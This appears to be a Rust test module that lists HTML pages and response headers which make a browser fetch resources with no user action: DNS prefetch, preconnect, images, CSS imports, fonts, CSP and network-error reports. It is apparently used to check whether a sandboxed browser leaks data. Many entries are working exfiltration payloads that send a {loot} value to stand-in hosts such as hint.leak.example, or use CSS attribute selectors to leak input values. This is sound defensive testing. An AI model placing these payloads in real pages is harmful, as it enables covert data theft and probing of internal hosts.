//! What a page has its browser fetch by the way: hints, pictures, styles, fonts, reports. Nobody clicked, no script asked.

use super::{Act, Attack, Kind, Proof, Reply};

fn page(name: &str, proof: Proof, body: &'static str) -> Attack {
    Attack::page(name, Kind::Hint, proof, body)
}

fn with(
    name: &str,
    proof: Proof,
    headers: &'static [(&'static str, &'static str)],
    body: &'static str,
) -> Attack {
    Attack::new(name, Kind::Hint, proof).file("", Reply::With(200, headers, body))
}

pub(super) fn rows() -> Vec<Attack> {
    [hints(), media(), styles(), reports()].concat()
}

fn hints() -> Vec<Attack> {
    vec![
        page(
            "dns-prefetch",
            Proof::Dns("hint.leak.example"),
            "<!doctype html><link rel=dns-prefetch href='//{loot}.hint.leak.example'>",
        ),
        page(
            "dns-prefetch-links",
            Proof::Never("names of links are not looked up ahead any more"),
            "<!doctype html><meta http-equiv=x-dns-prefetch-control content=on><a href='//{loot}.link.leak.example/'>Go</a>",
        ),
        page("preconnect", Proof::Tcp, "<!doctype html><link rel=preconnect href='http://{victim}'>"),
        page(
            "preconnect-name",
            Proof::Dns("early.leak.example"),
            "<!doctype html><link rel=preconnect href='http://{loot}.early.leak.example'>",
        ),
        page("prefetch", Proof::Tcp, "<!doctype html><link rel=prefetch href='http://{victim}/prefetch'>"),
        page(
            "preload",
            Proof::Tcp,
            "<!doctype html><link rel=preload as=image href='http://{victim}/preload'>",
        ),
        page(
            "module-preload",
            Proof::Tcp,
            "<!doctype html><link rel=modulepreload href='http://{victim}/module-preload.js'>",
        ),
        page(
            "speculation-prefetch",
            Proof::Tcp,
            "<!doctype html><script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"http://{victim}/speculation-prefetch\"], \"eagerness\": \"immediate\"}]}</script>",
        ),
        page(
            "speculation-prerender",
            Proof::Never("pages are not rendered ahead without a window"),
            "<!doctype html><script type=speculationrules>{\"prerender\": [{\"source\": \"list\", \"urls\": [\"{here}/next?{loot}\"], \"eagerness\": \"immediate\"}]}</script>",
        ),
        page(
            "prerender",
            Proof::Never("this hint is not followed any more"),
            "<!doctype html><link rel=prerender href='{here}/next?{loot}'>",
        ),
        with(
            "link-field",
            Proof::Tcp,
            &[("link", "<http://{victim}/link-field>; rel=preload; as=script")],
            "<!doctype html><p>Nothing</p>",
        ),
        with(
            "link-field-preconnect",
            Proof::Tcp,
            &[("link", "<http://{victim}>; rel=preconnect")],
            "<!doctype html><p>Nothing</p>",
        ),
        page(
            "icon",
            Proof::Tcp,
            "<!doctype html><link rel=icon href='http://{victim}/icon'><link rel=apple-touch-icon href='http://{victim}/touch-icon'>",
        ),
        page(
            "manifest",
            Proof::Tcp,
            "<!doctype html><link rel=manifest href='http://{victim}/manifest.json'>",
        ),
        page(
            "source-map",
            Proof::Never("source maps are for developer tools that are open"),
            "<!doctype html><script>throw 1\n//# sourceMappingURL=http://{victim}/source-map</script><style>p { color: red }\n/*# sourceMappingURL=http://{victim}/source-map-css */</style>",
        ),
        page(
            "search-description",
            Proof::Never("descriptions of searches are for the address bar"),
            "<!doctype html><link rel=search type='application/opensearchdescription+xml' href='http://{victim}/search-description'>",
        ),
        page("base", Proof::Tcp, "<!doctype html><base href='http://{victim}/base/'><img src='picture.png'>"),
    ]
}

fn media() -> Vec<Attack> {
    vec![
        page("image", Proof::Tcp, "<!doctype html><img src='http://{victim}/image'>"),
        page("image-set", Proof::Tcp, "<!doctype html><img srcset='http://{victim}/image-set 1x, http://{victim}/image-set-2 2x'>"),
        page("image-lazy", Proof::Tcp, "<!doctype html><div style='height: 9000px'></div><img loading=lazy src='http://{victim}/image-lazy'>").acts(&[Act::Scroll]),
        page("image-button", Proof::Tcp, "<!doctype html><input type=image src='http://{victim}/image-button'>"),
        page("image-made", Proof::Tcp, "<!doctype html><script>new Image().src = 'http://{victim}/image-made'</script>"),
        page("video", Proof::Tcp, "<!doctype html><video src='http://{victim}/video' preload=auto></video>"),
        page("video-poster", Proof::Tcp, "<!doctype html><video poster='http://{victim}/video-poster'></video>"),
        page("audio", Proof::Tcp, "<!doctype html><audio src='http://{victim}/audio' autoplay></audio>"),
        page("object", Proof::Tcp, "<!doctype html><object data='http://{victim}/object'></object>"),
        page("embed", Proof::Tcp, "<!doctype html><embed src='http://{victim}/embed'>"),
        page("frameset", Proof::Tcp, "<frameset><frame src='http://{victim}/frameset'></frameset>"),
        page("script", Proof::Tcp, "<!doctype html><script src='http://{victim}/script'></script>"),
        page("svg-image", Proof::Tcp, "<!doctype html><svg><image href='http://{victim}/svg-image' width=10 height=10 /></svg>"),
        with("svg-document", Proof::Tcp, &[("content-type", "image/svg+xml")], "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://{victim}/svg-document')</script></svg>"),
        with("xml-style", Proof::Tcp, &[("content-type", "text/xml")], "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='http://{victim}/xml-style'?><a/>"),
        page("noscript-image", Proof::Never("what is in `noscript` is for clients without scripts"), "<!doctype html><noscript><img src='http://{victim}/noscript-image'></noscript>"),
    ]
}

fn styles() -> Vec<Attack> {
    vec![
        page(
            "style-sheet",
            Proof::Tcp,
            "<!doctype html><link rel=stylesheet href='http://{victim}/style-sheet'>",
        ),
        page(
            "style-import",
            Proof::Tcp,
            "<!doctype html><style>@import url(http://{victim}/style-import);</style>",
        ),
        page("style-import-nested", Proof::Tcp, "<!doctype html><link rel=stylesheet href='{here}/a.css'>")
            .file("a.css", Reply::File("text/css", "@import url({here}/b.css);"))
            .file("b.css", Reply::File("text/css", "@import url(http://{victim}/style-import-nested);")),
        page(
            "style-background",
            Proof::Tcp,
            "<!doctype html><style>body { background: url(http://{victim}/style-background) }</style>",
        ),
        page(
            "style-content",
            Proof::Tcp,
            "<!doctype html><style>p::before { content: url(http://{victim}/style-content) }</style><p>x</p>",
        ),
        page(
            "style-attribute",
            Proof::Taken,
            "<!doctype html><style>input[value^=loot] { background: url({here}/is?{loot}) }</style><input value='{loot}'>",
        ),
        page(
            "font",
            Proof::Tcp,
            "<!doctype html><style>@font-face { font-family: x; src: url(http://{victim}/font) } p { font-family: x }</style><p>x</p>",
        ),
        page(
            "style-mask",
            Proof::Tcp,
            "<!doctype html><style>p { mask: url(http://{victim}/style-mask#m) }</style><p>x</p>",
        ),
        page(
            "style-container",
            Proof::Tcp,
            "<!doctype html><style>ul { list-style-image: image-set('http://{victim}/style-container' 1x) }</style><ul><li>x</ul>",
        ),
    ]
}

fn reports() -> Vec<Attack> {
    vec![
        with(
            "policy-report",
            Proof::Tcp,
            &[("content-security-policy", "img-src 'none'; report-uri http://{victim}/policy-report")],
            "<!doctype html><img src='/x.png'>",
        ),
        with(
            "policy-report-only",
            Proof::Tcp,
            &[(
                "content-security-policy-report-only",
                "script-src 'none'; report-uri http://{victim}/policy-report-only",
            )],
            "<!doctype html><script>1</script>",
        ),
        with(
            "report-to",
            Proof::Never("reports of this kind go to endpoints over TLS alone"),
            &[
                ("reporting-endpoints", "x=\"http://{victim}/report-to\""),
                ("content-security-policy", "img-src 'none'; report-to x"),
            ],
            "<!doctype html><img src='/x.png'>",
        ),
        with(
            "network-error",
            Proof::Never("reports of network errors are for sites over TLS"),
            &[
                (
                    "report-to",
                    "{\"group\":\"x\",\"max_age\":60,\"endpoints\":[{\"url\":\"http://{victim}/network-error\"}]}",
                ),
                ("nel", "{\"report_to\":\"x\",\"max_age\":60,\"success_fraction\":1}"),
            ],
            "<!doctype html><img src='/none.png'>",
        ),
        page("ping", Proof::Tcp, "<!doctype html><a ping='http://{victim}/ping' href='{here}/next'>Go</a>")
            .file("next", Reply::Page("<!doctype html><p>Next</p>"))
            .acts(&[Act::Click("a")]),
        page(
            "attribution",
            Proof::Tcp,
            "<!doctype html><img attributionsrc='http://{victim}/attribution' src='data:,'>",
        ),
        page(
            "download-link",
            Proof::Tcp,
            "<!doctype html><a download href='http://{victim}/download-link'>Go</a>",
        )
        .acts(&[Act::Click("a")]),
    ]
}
